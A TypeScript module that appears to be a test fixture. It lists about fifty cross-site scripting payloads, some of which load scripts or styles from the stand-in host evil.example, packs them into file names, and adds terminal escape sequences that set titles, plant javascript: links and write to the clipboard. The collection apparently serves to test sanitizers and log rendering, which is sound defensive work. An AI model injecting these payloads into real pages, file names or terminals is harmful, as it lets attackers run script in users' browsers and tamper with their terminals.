/** Ways to get a script run by whoever puts text into a page as markup, an address, a template or a style. */
const PAYLOADS: readonly string[] = [
  '<script>alert(1)</script>',
  '<ScRiPt>alert(2)</sCrIpT>',
  '<script src=//evil.example/x.js></script>',
  '<script/x>alert(3)</script>',
  '</script><script>alert(4)</script>',
  '<<script>alert(5)//<</script>',
  '<img src=x onerror=alert(6)>',
  '<img src=x onerror="alert(7)">',
  '<img/src=x/onerror=alert(8)>',
  '<img src=//evil.example/x.png>',
  '<svg onload=alert(9)>',
  '<svg/onload=alert(10)>',
  '<svg><script>alert(11)</script></svg>',
  '<svg><a xlink:href=javascript:alert(12)>x',
  '<svg><animate onbegin=alert(13)>',
  '<math><mi xlink:href=javascript:alert(14)>',
  '<iframe src=javascript:alert(15)>',
  '<iframe srcdoc="<script>alert(16)</script>">',
  '<object data=javascript:alert(17)>',
  '<embed src=javascript:alert(18)>',
  '<a href=javascript:alert(19)>x</a>',
  '<a href="java\tscript:alert(20)">x</a>',
  '<form action=javascript:alert(21)><button>x',
  '<input autofocus onfocus=alert(22)>',
  '<details open ontoggle=alert(23)>',
  '<body onload=alert(24)>',
  '<marquee onstart=alert(25)>',
  '<video><source onerror=alert(26)>',
  '<audio src=x onerror=alert(27)>',
  '<style>@import "//evil.example/x.css";</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<base href=//evil.example/>',
  '<meta http-equiv=refresh content="0;//evil.example">',
  '<p style="background:url(//evil.example/x)">',
  '<template><script>alert(28)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(29)>">',
  '<!--><img src=x onerror=alert(30)>-->',
  '<![CDATA[<img src=x onerror=alert(31)>]]>',
  '"><img src=x onerror=alert(32)>',
  "'><img src=x onerror=alert(33)>",
  '" onmouseover="alert(34)',
  "' onfocus='alert(35)' autofocus='",
  '{{constructor.constructor("alert(36)")()}}',
  '{{$on.constructor("alert(37)")()}}',
  '${alert(38)}',
  '[[alert(39)]]',
  'javascript:alert(40)',
  'data:text/html,<script>alert(41)</script>',
  '&lt;script&gt;alert(42)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(43)&#62;',
];

const LONGEST_NAME = 180;

/** All of them, several to a name. */
export const HOSTILE_NAMES: readonly string[] = PAYLOADS.reduce<string[]>((names, payload) => {
  const plain = payload.replace('\t', ' ');
  const last = names.at(-1);
  if (last === undefined || last.length + plain.length + 1 > LONGEST_NAME) names.push(plain);
  else names[names.length - 1] = `${last} ${plain}`;
  return names;
}, []);

const ESC = '\u001b';

/** Terminal escapes that set titles, make links, move about, ask for answers; and markup between them. */
export const HOSTILE_LOG = [
  ...PAYLOADS,
  '<img src=x onerror=alert(1)>',
  `${ESC}]0;owned\u0007title`,
  `${ESC}]2;owned${ESC}\\title`,
  `${ESC}]8;;javascript:alert(1)${ESC}\\link${ESC}]8;;${ESC}\\`,
  `${ESC}]8;;data:text/html,<script>alert(1)</script>\u0007link${ESC}]8;;\u0007`,
  `${ESC}]8;;https://evil.example/"onmouseover="alert(1)${ESC}\\link${ESC}]8;;${ESC}\\`,
  `${ESC}]52;c;b3duZWQ=\u0007clipboard`,
  `${ESC}]1337;File=inline=1:PHN2Zz4=\u0007picture`,
  `${ESC}P+q544e${ESC}\\device`,
  `${ESC}[2J${ESC}[H${ESC}[5;5Hmoved`,
  `${ESC}[6n${ESC}[c${ESC}[0x asked`,
  `${ESC}[38;2;1;2;3;<img src=x onerror=alert(2)>m`,
  `${ESC}[31m<b>red</b>${ESC}[0m`,
  `<span style="${ESC}[31m" onclick=alert(3)>`,
  `<${ESC}[0mscript>alert(4)</${ESC}[0mscript>`,
  '\u009b31m\u009d0;owned\u009c',
  '\u202e\u2066reversed',
  '',
].join('\n');
